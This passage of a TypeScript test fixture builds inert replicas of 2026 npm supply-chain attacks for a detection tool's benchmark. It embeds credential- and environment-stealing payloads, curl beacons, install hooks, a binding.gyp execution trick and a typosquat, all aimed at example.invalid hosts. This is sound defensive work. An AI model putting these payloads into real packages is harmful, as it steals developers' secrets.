/**
 * The shapes of the 2026 npm compromises (issue #16), as harmless local packages served by the fixture registry with
 * real tarballs, real registry signatures and real Sigstore bundles, each judged by the whole engine (`runCheck`,
 * content analysis on every package) in a project that installs it. What each copies, from which public write-up,
 * is in SHAPES.md beside this file.
 *
 * Every case is one project. An attack case names the versions that must be flagged at high or above; a benign
 * look-alike names the versions that must stay below medium. Payloads are inert: hosts under `example.invalid`,
 * nothing is ever executed (TrustLens reads tarballs, never runs them).
 *
 * Used by `npm run bench:detect` (part d) and by tests of the signals (`buildShapes`, `writeShapeProject`, `checkShape`).
 */
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  type PublisherInput,
  type RegistryCorpus,
  type RegistryKeyPair,
  ScenarioBuilder,
  type VersionInput,
  generateRegistryKey,
  tarballPath,
} from '../../test/fixtures/registry/corpus';
import { type CheckOptions, type CheckReport, runCheck } from '../../src/engine/check/run-check';
import type { SigstoreTestEnv } from '../../test/support/sigstore-scenarios';
import { isolatedNpmEnv } from '../../test/support/npm-env';
import { seededRandom } from '../../test/support/rng';
import { obfuscate } from './replicas';

/** Every shape is judged as of this instant: five days after the incidents, outside the default cooldown. */
export const SHAPES_NOW = '2026-06-20T12:00:00.000Z';
/** When the incidents happen. */
const T = Date.parse('2026-06-15T19:20:00.000Z');
const at = (minutes: number) => new Date(T + minutes * 60_000).toISOString();
const daysBefore = (days: number) => new Date(T - days * 86_400_000).toISOString();

export type ShapeClass = 'worm-burst' | 'poisoned-baseline' | 'hours-old-dependency' | 'phantom-gyp' | 'chaindrop' | 'valid-provenance-ci';

export interface LockedEntry {
  name: string;
  version: string;
  /** Installed under this folder name (an `npm:` alias), e.g. to install two majors of one package. */
  alias?: string;
  /** Not in the registry: a git dependency (resolved to this URL). */
  git?: string;
  dev?: boolean;
}

export interface ShapeCase {
  id: string;
  kind: 'attack' | 'benign';
  /** The class an attack belongs to, or the class a benign case looks like. */
  class: ShapeClass;
  /** Which write-up or real pattern it copies. */
  mirrors: string;
  installs: LockedEntry[];
  /** name@version that must be flagged at high or above (attack) or stay below medium (benign). */
  targets: string[];
}

export interface Shapes {
  corpus: RegistryCorpus;
  cases: ShapeCase[];
}

const alice: PublisherInput = { name: 'alice', email: 'alice@example.com' };
const bob: PublisherInput = { name: 'bob', email: 'bob@example.com' };
const carol: PublisherInput = { name: 'carol', email: 'carol@example.org' };
const dave: PublisherInput = { name: 'dave', email: 'dave@example.net' };
const stranger: PublisherInput = { name: 'npm-helper-7731', email: 'h7731@mail.example.invalid' };
const actions = (repo: string): PublisherInput => ({
  name: 'GitHub Actions',
  email: 'npm-oidc-no-reply@github.com',
  trustedPublisher: { id: 'github', oidcConfigId: `oidc:${repo}` },
});

// ---------------------------------------------------------------- inert code

const WORDS = [
  'alpha',
  'bravo',
  'charlie',
  'delta',
  'echo',
  'foxtrot',
  'golf',
  'hotel',
  'india',
  'juliet',
  'kilo',
  'lima',
  'mike',
  'november',
  'oscar',
  'papa',
];

/** A small, ordinary code base, different for each seed: a few pure functions. */
function codeBase(seed: number, extra = ''): Record<string, string> {
  const rand = seededRandom(seed);
  const pick = () => WORDS[Math.floor(rand() * WORDS.length)];
  const fns = Array.from({ length: 3 + Math.floor(rand() * 4) }, (_, i) => {
    const n = `${pick()}${i}`;
    const k = Math.floor(rand() * 90) + 7;
    return `function ${n}(input) {\n  const list = Array.isArray(input) ? input : [input];\n  return list.map((x) => (typeof x === 'number' ? x * ${k} : String(x).padStart(${k % 13}, '${pick()[0]}')));\n}\n`;
  });
  const names = fns.map((f) => /function (\w+)/.exec(f)![1]);
  return {
    'index.js': `'use strict';\n\nconst util = require('./lib/util');\n\n${fns.join('\n')}\nmodule.exports = { ${names.join(', ')}, util };\n${extra}`,
    'lib/util.js': `'use strict';\n\nexports.clamp = (n, lo, hi) => Math.min(hi, Math.max(lo, n));\nexports.seed = ${seed};\n`,
    'README.md': `# package ${seed}\n\nSmall utilities.\n`,
  };
}

/** The worm's beacon: sends the host name and a few environment facts to a host the package never talked to. */
const BEACON = `'use strict';\nconst https = require('https');\nconst os = require('os');\nfunction report(tag) {\n  try {\n    const body = JSON.stringify({ tag, host: os.hostname(), user: os.userInfo().username, ci: !!process.env.CI, node: process.version });\n    const req = https.request({ hostname: 'metrics.example.invalid', path: '/v1/collect', method: 'POST', headers: { 'content-type': 'application/json' } }, () => {});\n    req.on('error', () => {});\n    req.end(body);\n  } catch (e) {}\n}\nmodule.exports = report;\nreport('load');\n`;
/** Another shape of it (the publisher-wide variant): spawns curl instead of using http. */
const CURL_BEACON = `'use strict';\nconst { exec } = require('child_process');\nconst os = require('os');\nmodule.exports = function check() {\n  exec('curl -s -m 3 -d host=' + os.hostname() + ' https://telemetry.example.invalid/ping', () => {});\n};\nmodule.exports();\n`;

const requireLine = (p: string) => `\nrequire('./${p}');\n`;

/** An install-time stealer, obfuscated (the dependency's own second release in the hours-old dependency case). */
const STEALER = obfuscate(
  `const _0xh=require(S("https"));const _0xe=JSON[S("stringify")](process[S("env")]);const _0xr=_0xh[S("request")]({hostname:S("drop.example.invalid"),path:S("/e"),method:S("POST")},function(){});_0xr[S("on")](S("error"),function(){});_0xr[S("end")](Buffer[S("from")](_0xe)[S("toString")](S("base64")));`,
  1606,
  6000,
);

// ---------------------------------------------------------------- builder helpers

interface Line {
  versions: string[];
  /** Days before the incident of the first and last clean release. */
  from: number;
  to: number;
}

/** Clean releases spread over time, each with its own small change. */
function cleanHistory(
  b: ScenarioBuilder,
  name: string,
  seed: number,
  lines: Line[],
  publisher: PublisherInput | ((v: string) => VersionInput),
  extra: VersionInput = {},
): void {
  const p = b.package(name);
  const all: [string, string][] = [];
  for (const line of lines) {
    line.versions.forEach((v, i) => {
      const days = line.versions.length === 1 ? line.to : line.from - ((line.from - line.to) * i) / (line.versions.length - 1);
      all.push([v, daysBefore(days)]);
    });
  }
  all.sort((a, c) => Date.parse(a[1]) - Date.parse(c[1]));
  for (const [i, [v, when]] of all.entries()) {
    const who = typeof publisher === 'function' ? publisher(v) : { publisher };
    p.version(v, { publishedAt: when, files: codeBase(seed, `// ${i}\n`), ...extra, ...who });
  }
}

const files = (seed: number, more: Record<string, string>, extraIndex = ''): Record<string, string> => {
  const base = codeBase(seed, extraIndex);
  return { ...base, ...more };
};

// ---------------------------------------------------------------- the cases

/**
 * Builds every package of every case into one corpus. `sigstore` signs the provenance of the CI cases (without
 * it, those cases are left out); `key` is the registry's signing key (pass the one the Sigstore env's publish
 * attestations are signed with).
 */
export async function buildShapes(sigstore?: SigstoreTestEnv, key: RegistryKeyPair = generateRegistryKey()): Promise<Shapes> {
  const b = new ScenarioBuilder({
    registryKey: key,
    attest: sigstore
      ? (i) =>
          sigstore.attest({
            name: i.name,
            version: i.version,
            integritySha512Hex: i.integritySha512Hex,
            repository: String(i.repository),
            workflowPath: String(i.workflowPath ?? '.github/workflows/release.yml'),
            ref: String(i.ref),
            sha: String(i.sha ?? 'c'.repeat(40)),
            ...(i.eventName ? { eventName: String(i.eventName) } : {}),
            ...(i.runnerEnvironment ? { runnerEnvironment: String(i.runnerEnvironment) } : {}),
          })
      : undefined,
  });
  const cases: ShapeCase[] = [];

  // ---- worm burst across a scope: six packages, different code bases and release lines, the same new file in 9 minutes
  {
    const scope = '@acme-replica';
    const pkgs: [string, string[], string][] = [
      ['config', ['1.4.0', '1.4.1'], '1.4.2'],
      ['logger', ['3.0.5', '3.0.6'], '3.0.7'],
      ['http', ['0.9.0'], '0.9.1'],
      ['cache', ['2.10.2', '2.11.0'], '2.11.1'],
      ['queue', ['5.2.2'], '5.2.3'],
      ['auth', ['0.3.13'], '0.3.14'],
    ];
    pkgs.forEach(([n, clean, bad], i) => {
      const name = `${scope}/${n}`;
      cleanHistory(b, name, 100 + i, [{ versions: clean, from: 200 - i * 7, to: 30 + i * 3 }], i % 2 ? bob : alice);
      b.package(name).version(bad, {
        publishedAt: at(i * 1.7),
        publisher: i % 2 ? bob : alice,
        files: files(100 + i, { 'lib/metrics.js': BEACON }, requireLine('lib/metrics.js')),
      });
    });
    cases.push({
      id: 'worm-scope-6-in-9-minutes',
      kind: 'attack',
      class: 'worm-burst',
      mirrors:
        'ChainDrop / Miasma across a scope (June 2026): each package of one scope got a patch within minutes adding the same file, required from its main',
      installs: pkgs.map(([n, , bad]) => ({ name: `${scope}/${n}`, version: bad })),
      targets: pkgs.map(([n, , bad]) => `${scope}/${n}@${bad}`),
    });
  }
  // ---- worm burst by one publisher, unscoped, another payload (spawns curl), another file name per package
  {
    const pkgs: [string, string, string, string][] = [
      ['tiny-slugify', '2.1.0', '2.1.1', 'lib/check.js'],
      ['ms-format', '0.6.4', '0.6.5', 'src/env-check.js'],
      ['deep-keys-lite', '4.0.9', '4.0.10', 'check.js'],
      ['path-glob-lite', '1.12.0', '1.12.1', 'lib/platform.js'],
    ];
    pkgs.forEach(([n, clean, bad, file], i) => {
      cleanHistory(b, n, 200 + i, [{ versions: [clean], from: 90, to: 60 + i * 9 }], carol);
      b.package(n).version(bad, { publishedAt: at(40 + i * 8), publisher: carol, files: files(200 + i, { [file]: CURL_BEACON }, requireLine(file)) });
    });
    cases.push({
      id: 'worm-publisher-4-in-25-minutes',
      kind: 'attack',
      class: 'worm-burst',
      mirrors:
        'Shai-Hulud style propagation through one maintainer account: four unrelated packages of one publisher republished within 25 minutes, each with the same dropper under another name',
      installs: pkgs.map(([n, , bad]) => ({ name: n, version: bad })),
      targets: pkgs.map(([n, , bad]) => `${n}@${bad}`),
    });
  }
  // ---- benign: a monorepo releasing 30 packages in lockstep, ordinary changes (and the same generated version file)
  {
    const installs: LockedEntry[] = [];
    for (let i = 0; i < 30; i++) {
      const name = `@mono-replica/pkg-${String(i).padStart(2, '0')}`;
      cleanHistory(b, name, 300 + i, [{ versions: ['7.2.0', '7.3.0'], from: 80, to: 40 }], (v) => ({ publisher: v === '7.2.0' ? alice : bob }));
      b.package(name).version('7.4.0', {
        publishedAt: at(i * 0.15),
        publisher: alice,
        files: files(
          300 + i,
          { 'lib/version.js': "'use strict';\nmodule.exports = '7.4.0';\n", 'lib/extra.js': `exports.extra${i} = (a) => a + ${i};\n` },
          requireLine('lib/version.js'),
        ),
      });
      installs.push({ name, version: '7.4.0' });
    }
    cases.push({
      id: 'benign-monorepo-30-lockstep',
      kind: 'benign',
      class: 'worm-burst',
      mirrors: 'babel/aws-sdk style lockstep release: 30 packages, one version, within 5 minutes, ordinary changes and a generated version file',
      installs,
      targets: installs.map((e) => `${e.name}@${e.version}`),
    });
  }

  // ---- poisoned baselines: four majors republished within 21 minutes, each with the same beacon
  {
    const name = 'yaml-lite-replica';
    const lines: [string[], string][] = [
      [['1.9.0', '1.9.1'], '1.9.2'],
      [['2.4.0', '2.4.1'], '2.4.2'],
      [['3.0.0', '3.1.0'], '3.1.1'],
      [['4.2.0', '4.2.1'], '4.2.2'],
    ];
    cleanHistory(
      b,
      name,
      400,
      lines.map(([v], i) => ({ versions: v, from: 700 - i * 150, to: 400 - i * 100 })),
      alice,
    );
    lines.forEach(([, bad], i) =>
      b.package(name).version(bad, { publishedAt: at(i * 7), publisher: alice, files: files(400, { 'lib/beacon.js': BEACON }, requireLine('lib/beacon.js')) }),
    );
    cases.push({
      id: 'poisoned-four-majors-21-minutes',
      kind: 'attack',
      class: 'poisoned-baseline',
      mirrors:
        '7nohe multi-line republish (2026): every maintained major republished within minutes with the same beacon; by date, each later one is compared with the poisoned sibling before it',
      installs: lines.map(([, bad]) => ({ name, version: bad, alias: `yaml-lite-v${bad.split('.')[0]}` })),
      targets: lines.map(([, bad]) => `${name}@${bad}`),
    });
  }
  // ---- poisoned baselines: published twice in a row; the second hides behind the first
  {
    const name = 'env-merge-replica';
    cleanHistory(b, name, 410, [{ versions: ['1.4.0', '1.5.0'], from: 300, to: 60 }], dave);
    const payload = `'use strict';\nconst https = require('https');\nconst t = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || '';\nconst r = https.request({ hostname: 'collect.example.invalid', path: '/t', method: 'POST' }, () => {});\nr.on('error', () => {});\nr.end(t);\n`;
    b.package(name).version('1.5.1', { publishedAt: at(0), publisher: dave, files: files(410, { 'lib/sync.js': payload }, requireLine('lib/sync.js')) });
    b.package(name).version('1.5.2', {
      publishedAt: at(38),
      publisher: dave,
      files: { ...files(410, { 'lib/sync.js': payload }, requireLine('lib/sync.js')), 'README.md': '# env-merge\n\nFixed a typo.\n' },
    });
    cases.push({
      id: 'poisoned-twice-in-a-row',
      kind: 'attack',
      class: 'poisoned-baseline',
      mirrors: 'an attacker publishes twice in a row: the second release is compared with the first, already malicious, and looks unchanged',
      installs: [{ name, version: '1.5.2' }],
      targets: [`${name}@1.5.2`],
    });
  }
  // ---- poisoned baselines: an install script added, then kept three days later (no burst: the flagged release is skipped)
  {
    const name = 'fs-walk-replica';
    cleanHistory(b, name, 420, [{ versions: ['2.0.0', '2.0.1'], from: 200, to: 90 }], alice);
    const hook = { scripts: { postinstall: 'node scripts/setup.js' } };
    b.package(name).version('2.0.2', {
      publishedAt: daysBefore(3),
      publisher: alice,
      ...hook,
      files: files(420, { 'scripts/setup.js': "require('https').get('https://setup.example.invalid/x', () => {});\n" }),
    });
    b.package(name).version('2.0.3', {
      publishedAt: at(0),
      publisher: alice,
      ...hook,
      files: files(420, { 'scripts/setup.js': "require('https').get('https://setup.example.invalid/x', () => {});\n", 'lib/more.js': 'exports.more = 1;\n' }),
    });
    cases.push({
      id: 'poisoned-hook-kept',
      kind: 'attack',
      class: 'poisoned-baseline',
      mirrors: 'a postinstall added in one release and kept in the next: the next is compared with the last release that was not itself flagged',
      installs: [{ name, version: '2.0.3' }],
      targets: [`${name}@2.0.3`],
    });
  }
  // ---- benign: security backports across three lines in an afternoon
  {
    const name = 'qs-lite-replica';
    cleanHistory(
      b,
      name,
      430,
      [
        { versions: ['4.17.0', '4.17.1'], from: 900, to: 500 },
        { versions: ['5.2.0', '5.2.1'], from: 450, to: 200 },
        { versions: ['6.0.0', '6.1.0'], from: 180, to: 40 },
      ],
      bob,
    );
    const fixed = (seed: number) =>
      files(
        seed,
        {
          'lib/parse.js':
            "'use strict';\n// limit the depth of nested keys (CVE fix)\nexports.parse = (s, depth = 5) => s.split('&').slice(0, 1000).map((kv) => kv.split('=', 2));\n",
        },
        requireLine('lib/parse.js'),
      );
    b.package(name).version('4.17.2', { publishedAt: at(-120), publisher: bob, files: fixed(430) });
    b.package(name).version('5.2.2', { publishedAt: at(-20), publisher: bob, files: fixed(430) });
    b.package(name).version('6.1.1', { publishedAt: at(75), publisher: bob, files: fixed(430) });
    cases.push({
      id: 'benign-backports-afternoon',
      kind: 'benign',
      class: 'poisoned-baseline',
      mirrors: 'a security fix backported to three majors over an afternoon (as qs, semver and lodash have done)',
      installs: [
        { name, version: '6.1.1' },
        { name, version: '5.2.2', alias: 'qs-lite-v5' },
        { name, version: '4.17.2', alias: 'qs-lite-v4' },
      ],
      targets: [`${name}@6.1.1`, `${name}@5.2.2`, `${name}@4.17.2`],
    });
  }
  // ---- benign: a fix-up release an hour after a feature release
  {
    const name = 'date-fmt-replica';
    cleanHistory(b, name, 440, [{ versions: ['3.0.0', '3.1.0'], from: 300, to: 50 }], carol);
    b.package(name).version('3.2.0', {
      publishedAt: at(0),
      publisher: carol,
      files: files(440, { 'lib/locale.js': "exports.locale = 'en';\n" }, requireLine('lib/locale.js')),
    });
    b.package(name).version('3.2.1', {
      publishedAt: at(65),
      publisher: carol,
      files: files(440, { 'lib/locale.js': "exports.locale = 'en-US';\n" }, requireLine('lib/locale.js')),
    });
    cases.push({
      id: 'benign-fixup-release',
      kind: 'benign',
      class: 'poisoned-baseline',
      mirrors: 'a fix-up patch an hour after a feature release',
      installs: [{ name, version: '3.2.1' }],
      targets: [`${name}@3.2.1`],
    });
  }
  // ---- benign: a new account of a multi-maintainer project publishes (was a maintainer for a year)
  {
    const name = 'lint-rules-replica';
    cleanHistory(b, name, 450, [{ versions: ['8.0.0', '8.1.0', '8.2.0', '8.3.0'], from: 400, to: 60 }], (v) => ({
      publisher: v === '8.0.0' ? alice : bob,
      maintainers: ['alice', 'bob', 'carol'],
    }));
    b.package(name).version('8.3.1', { publishedAt: at(0), publisher: carol, maintainers: ['alice', 'bob', 'carol'], files: files(450, {}, '// 8.3.1\n') });
    cases.push({
      id: 'benign-maintainer-rotation',
      kind: 'benign',
      class: 'poisoned-baseline',
      mirrors: 'multi-maintainer projects rotate who publishes: a long-listed maintainer publishes for the first time',
      installs: [{ name, version: '8.3.1' }],
      targets: [`${name}@8.3.1`],
    });
  }

  // ---- hours-old dependency: a patch whose only change is a dependency first published 20 hours before
  {
    const dep = 'colorette-utils';
    b.package(dep).version('1.0.0', { publishedAt: at(-20 * 60), publisher: stranger, files: { 'index.js': 'module.exports = (s) => String(s);\n' } });
    b.package(dep).version('1.0.1', {
      publishedAt: at(-18 * 60),
      publisher: stranger,
      scripts: { postinstall: 'node install.js' },
      files: { 'index.js': 'module.exports = (s) => String(s);\n', 'install.js': STEALER },
    });
    const name = 'request-lite-replica';
    cleanHistory(b, name, 500, [{ versions: ['2.8.1', '2.8.2', '2.8.3'], from: 400, to: 100 }], alice, { dependencies: { 'mime-lite-replica': '^1.0.0' } });
    b.package('mime-lite-replica').version('1.0.0', { publishedAt: daysBefore(900), publisher: alice, files: { 'index.js': 'module.exports = {};\n' } });
    b.package(name).version('2.8.4', {
      publishedAt: at(0),
      publisher: alice,
      dependencies: { 'mime-lite-replica': '^1.0.0', [dep]: '^1.0.0' },
      files: files(500, {}, '// 2.8.3\n'),
    });
    cases.push({
      id: 'hours-old-dependency',
      kind: 'attack',
      class: 'hours-old-dependency',
      mirrors: 'a patch release whose only change is a new dependency first published 20 hours earlier, whose second release carries an obfuscated postinstall',
      installs: [
        { name, version: '2.8.4' },
        { name: 'mime-lite-replica', version: '1.0.0' },
        { name: dep, version: '1.0.1' },
      ],
      targets: [`${name}@2.8.4`, `${dep}@1.0.1`],
    });
  }
  // ---- hours-old dependency, other shape: an optional dependency in a minor, named like a popular package, claiming its repository
  {
    const dep = 'lodahs';
    b.package(dep).version('4.17.21', {
      publishedAt: at(-6 * 60),
      publisher: stranger,
      manifest: { repository: { type: 'git', url: 'git+https://github.com/lodash/lodash.git' } },
      files: { 'index.js': "module.exports = require('./lodash');\n", 'lodash.js': 'module.exports = {};\n' },
    });
    const name = 'table-render-replica';
    cleanHistory(b, name, 510, [{ versions: ['1.0.0', '1.1.0'], from: 300, to: 120 }], dave);
    b.package(name).version('1.2.0', {
      publishedAt: at(0),
      publisher: dave,
      manifest: { optionalDependencies: { [dep]: '^4.17.21' } },
      files: files(510, { 'lib/sort.js': 'exports.sort = (a) => a.slice().sort();\n' }, requireLine('lib/sort.js')),
    });
    cases.push({
      id: 'young-typosquat-optional',
      kind: 'attack',
      class: 'hours-old-dependency',
      mirrors: "an optional dependency added in a minor, first published six hours earlier, named one letter away from lodash and claiming lodash's repository",
      installs: [
        { name, version: '1.2.0' },
        { name: dep, version: '4.17.21' },
      ],
      targets: [`${name}@1.2.0`],
    });
  }
  // ---- benign: an old dependency added in a minor
  {
    const name = 'cli-table-replica';
    cleanHistory(b, name, 520, [{ versions: ['3.0.0', '3.1.0'], from: 300, to: 90 }], bob);
    cleanHistory(b, 'string-width-replica', 521, [{ versions: ['4.0.0', '4.1.0', '4.2.3'], from: 2200, to: 700 }], carol);
    b.package(name).version('3.2.0', {
      publishedAt: at(0),
      publisher: bob,
      dependencies: { 'string-width-replica': '^4.2.0' },
      files: files(
        520,
        { 'lib/width.js': "exports.width = (s) => require('string-width-replica').alpha0 ? 1 : String(s).length;\n" },
        requireLine('lib/width.js'),
      ),
    });
    cases.push({
      id: 'benign-old-dependency-added',
      kind: 'benign',
      class: 'hours-old-dependency',
      mirrors: 'a minor release that starts depending on a package published for years',
      installs: [
        { name, version: '3.2.0' },
        { name: 'string-width-replica', version: '4.2.3' },
      ],
      targets: [`${name}@3.2.0`],
    });
  }
  // ---- benign: a monorepo splits out a package and depends on it the same day
  {
    cleanHistory(b, '@mono2-replica/core', 530, [{ versions: ['2.0.0', '2.1.0'], from: 200, to: 40 }], alice);
    b.package('@mono2-replica/shared-types').version('2.2.0', { publishedAt: at(-3 * 60), publisher: alice, files: { 'index.js': 'module.exports = {};\n' } });
    b.package('@mono2-replica/core').version('2.2.0', {
      publishedAt: at(-3 * 60 + 2),
      publisher: alice,
      dependencies: { '@mono2-replica/shared-types': '2.2.0' },
      files: files(530, {}, "require('@mono2-replica/shared-types');\n"),
    });
    cases.push({
      id: 'benign-new-sibling-package',
      kind: 'benign',
      class: 'hours-old-dependency',
      mirrors: 'a monorepo splits out a package and depends on it the same day (same scope, same publisher)',
      installs: [
        { name: '@mono2-replica/core', version: '2.2.0' },
        { name: '@mono2-replica/shared-types', version: '2.2.0' },
      ],
      targets: ['@mono2-replica/core@2.2.0', '@mono2-replica/shared-types@2.2.0'],
    });
  }

  // ---- Phantom Gyp: a binding.gyp whose sources run node through <!( ), no scripts
  {
    const name = 'fast-hash-replica';
    cleanHistory(b, name, 600, [{ versions: ['1.1.0', '1.2.0'], from: 250, to: 70 }], bob);
    const gyp = JSON.stringify({ targets: [{ target_name: 'Setup', type: 'none', sources: ['<!(node index.js > /dev/null 2>&1 && echo stub.c)'] }] }, null, 2);
    b.package(name).version('1.2.1', {
      publishedAt: at(3),
      publisher: bob,
      files: files(600, { 'binding.gyp': gyp, 'lib/setup.js': STEALER }, requireLine('lib/setup.js')),
    });
    cases.push({
      id: 'phantom-gyp-new-binding',
      kind: 'attack',
      class: 'phantom-gyp',
      mirrors: 'Phantom Gyp (June 2026): a 157-byte binding.gyp whose sources run `<!(node index.js …)`; no preinstall or postinstall',
      installs: [{ name, version: '1.2.1' }],
      targets: [`${name}@1.2.1`],
    });
  }
  {
    const name = 'native-crc-replica';
    const gypOk = JSON.stringify({ targets: [{ target_name: 'crc', sources: ['src/crc.cc'] }] }, null, 2);
    cleanHistory(b, name, 610, [{ versions: ['3.0.0', '3.0.1'], from: 400, to: 90 }], carol, {
      files: { ...codeBase(610), 'binding.gyp': gypOk, 'src/crc.cc': '// crc\n' },
    });
    const gypBad = JSON.stringify({ targets: [{ target_name: 'crc', sources: ['src/crc.cc', '<!(node scripts/prebuild.js)'] }] }, null, 2);
    b.package(name).version('3.0.2', {
      publishedAt: at(12),
      publisher: carol,
      files: { ...codeBase(610), 'binding.gyp': gypBad, 'src/crc.cc': '// crc\n', 'scripts/prebuild.js': STEALER },
    });
    cases.push({
      id: 'phantom-gyp-changed-binding',
      kind: 'attack',
      class: 'phantom-gyp',
      mirrors: 'Phantom Gyp in a package that already built a native addon: the existing binding.gyp gains a `<!(node …)` source',
      installs: [{ name, version: '3.0.2' }],
      targets: [`${name}@3.0.2`],
    });
    // benign: another native addon, a release that changes only its C++ source
    const ok = 'native-sum-replica';
    cleanHistory(b, ok, 620, [{ versions: ['1.0.0', '1.0.1'], from: 300, to: 60 }], dave, {
      files: { ...codeBase(620), 'binding.gyp': gypOk, 'src/crc.cc': '// sum\n' },
    });
    b.package(ok).version('1.0.2', {
      publishedAt: at(0),
      publisher: dave,
      files: { ...codeBase(620), 'binding.gyp': gypOk, 'src/crc.cc': '// sum, faster\n' },
    });
    cases.push({
      id: 'benign-native-addon-release',
      kind: 'benign',
      class: 'phantom-gyp',
      mirrors: 'a native addon releases with the same binding.gyp and a changed C++ source',
      installs: [{ name: ok, version: '1.0.2' }],
      targets: [`${ok}@1.0.2`],
    });
  }

  // ---- ChainDrop: a preinstall and an optional github: dependency on an orphan commit
  {
    const name = 'chain-util-replica';
    cleanHistory(b, name, 700, [{ versions: ['3.0.0', '3.1.0'], from: 300, to: 45 }], alice);
    const sha = '9f'.repeat(20);
    b.package(name).version('3.1.1', {
      publishedAt: at(5),
      publisher: alice,
      scripts: { preinstall: 'node scripts/pre.js' },
      manifest: { optionalDependencies: { 'chain-helper': `github:chaindrop-replica/helper#${sha}` } },
      files: files(700, { 'scripts/pre.js': CURL_BEACON }),
    });
    cases.push({
      id: 'chaindrop-preinstall-github-optional',
      kind: 'attack',
      class: 'chaindrop',
      mirrors: 'ChainDrop (2026): a preinstall plus an optional dependency on a github: orphan commit that carries the payload',
      installs: [
        { name, version: '3.1.1' },
        { name: 'chain-helper', version: '1.0.0', git: `git+ssh://git@github.com/chaindrop-replica/helper.git#${sha}` },
      ],
      targets: [`${name}@3.1.1`],
    });
    const quiet = 'chain-core-replica';
    cleanHistory(b, quiet, 710, [{ versions: ['0.8.0', '0.8.1'], from: 300, to: 45 }], bob);
    b.package(quiet).version('0.8.2', {
      publishedAt: at(9),
      publisher: bob,
      manifest: { optionalDependencies: { 'chain-native': 'https://cdn.example.invalid/chain-native-0.0.1.tgz' } },
      files: files(710, {}, '// 0.8.2\n'),
    });
    cases.push({
      id: 'chaindrop-tarball-url-only',
      kind: 'attack',
      class: 'chaindrop',
      mirrors: "ChainDrop's second wave: no install script in the package itself, only an optional dependency on a tarball URL outside the registry",
      installs: [{ name: quiet, version: '0.8.2' }],
      targets: [`${quiet}@0.8.2`],
    });
  }

  // ---- valid-provenance CI compromise
  if (sigstore) {
    const repo = 'replica-stack/router';
    const claims = (version: string, over: Record<string, unknown> = {}) => ({
      repository: repo,
      workflowPath: '.github/workflows/release.yml',
      ref: `refs/tags/v${version}`,
      eventName: 'push',
      ...over,
    });
    const trusted = (version: string, when: string, over: Record<string, unknown> = {}, more: VersionInput = {}): VersionInput => ({
      publishedAt: when,
      publisher: actions(repo),
      attest: 'provenance',
      attestClaims: claims(version, over),
      ...more,
    });
    const name = '@replica-stack/router-lite';
    const p = b.package(name);
    ['1.118.0', '1.119.0', '1.120.0'].forEach((v, i) => p.version(v, trusted(v, daysBefore(60 - i * 20), {}, { files: codeBase(800, `// ${v}\n`) })));
    // The release workflow ran for a pull_request_target event, from a branch: same repository, same workflow file, provenance verifies.
    p.version(
      '1.120.1',
      trusted(
        '1.120.1',
        at(0),
        { eventName: 'pull_request_target', ref: 'refs/heads/main' },
        { files: files(800, { 'lib/router_init.js': BEACON }, requireLine('lib/router_init.js')) },
      ),
    );
    cases.push({
      id: 'ci-compromise-pull-request-target',
      kind: 'attack',
      class: 'valid-provenance-ci',
      mirrors:
        "TanStack (May 2026): malicious versions published through the project's own trusted-publisher pipeline, valid SLSA provenance, after a pull_request_target run",
      installs: [{ name, version: '1.120.1' }],
      targets: [`${name}@1.120.1`],
    });

    const repo2 = 'replica-antv/charts';
    const name2 = '@replica-antv/g2-lite';
    const p2 = b.package(name2);
    const t2 = (version: string, when: string, over: Record<string, unknown> = {}, more: VersionInput = {}): VersionInput => ({
      publishedAt: when,
      publisher: actions(repo2),
      attest: 'provenance',
      attestClaims: { repository: repo2, workflowPath: '.github/workflows/publish.yml', ref: `refs/tags/v${version}`, eventName: 'push', ...over },
      ...more,
    });
    ['5.1.0', '5.1.1', '5.2.0'].forEach((v, i) => p2.version(v, t2(v, daysBefore(90 - i * 30), {}, { files: codeBase(810, `// ${v}\n`) })));
    // Built on a self-hosted runner by a workflow_dispatch run: the attacker's runner, the project's identity.
    p2.version(
      '5.2.1',
      t2(
        '5.2.1',
        at(30),
        { eventName: 'workflow_dispatch', runnerEnvironment: 'self-hosted' },
        { files: files(810, { 'dist/env.js': CURL_BEACON }, requireLine('dist/env.js')) },
      ),
    );
    cases.push({
      id: 'ci-compromise-self-hosted-dispatch',
      kind: 'attack',
      class: 'valid-provenance-ci',
      mirrors:
        "@antv (2026): valid provenance from the project's repository, but a manual workflow_dispatch run on a self-hosted runner where every earlier release was a tag push on GitHub-hosted runners",
      installs: [{ name: name2, version: '5.2.1' }],
      targets: [`${name2}@5.2.1`],
    });

    // benign: trusted publishing → token publish with provenance (a maintainer publishing by hand with --provenance)
    const repo3 = 'replica-ok/parser';
    const name3 = 'parser-ok-replica';
    const p3 = b.package(name3);
    ['2.0.0', '2.1.0'].forEach((v, i) =>
      p3.version(v, {
        publishedAt: daysBefore(100 - i * 40),
        publisher: actions(repo3),
        attest: 'provenance',
        attestClaims: { repository: repo3, workflowPath: '.github/workflows/release.yml', ref: `refs/tags/v${v}`, eventName: 'push' },
        files: codeBase(820, `// ${v}\n`),
      }),
    );
    p3.version('2.1.1', {
      publishedAt: at(0),
      publisher: alice,
      attest: 'provenance',
      attestClaims: { repository: repo3, workflowPath: '.github/workflows/release.yml', ref: 'refs/tags/v2.1.1', eventName: 'push' },
      files: codeBase(820, '// 2.1.1\n'),
    });
    cases.push({
      id: 'benign-trusted-publisher-to-provenance',
      kind: 'benign',
      class: 'valid-provenance-ci',
      mirrors: 'a release published with provenance by a token instead of trusted publishing (pnpm users report it flagged as a downgrade)',
      installs: [{ name: name3, version: '2.1.1' }],
      targets: [`${name3}@2.1.1`],
    });

    // benign: a backport on an older major without provenance, after the newer major gained it (semver@6.3.1)
    const name4 = 'semver-ok-replica';
    const p4 = b.package(name4);
    p4.version('6.3.0', { publishedAt: daysBefore(700), publisher: bob, files: codeBase(830, '// 6.3.0\n') });
    p4.version('7.0.0', {
      publishedAt: daysBefore(300),
      publisher: actions('replica-ok/semver'),
      attest: 'provenance',
      attestClaims: { repository: 'replica-ok/semver', workflowPath: '.github/workflows/release.yml', ref: 'refs/tags/v7.0.0', eventName: 'push' },
      files: codeBase(831, '// 7\n'),
    });
    p4.version('6.3.1', { publishedAt: at(0), publisher: bob, files: codeBase(830, '// 6.3.1\n') });
    cases.push({
      id: 'benign-backport-without-provenance',
      kind: 'benign',
      class: 'valid-provenance-ci',
      mirrors: 'semver@6.3.1: a backport on 6.x without provenance after 7.x (published earlier) had it',
      installs: [{ name: name4, version: '6.3.1' }],
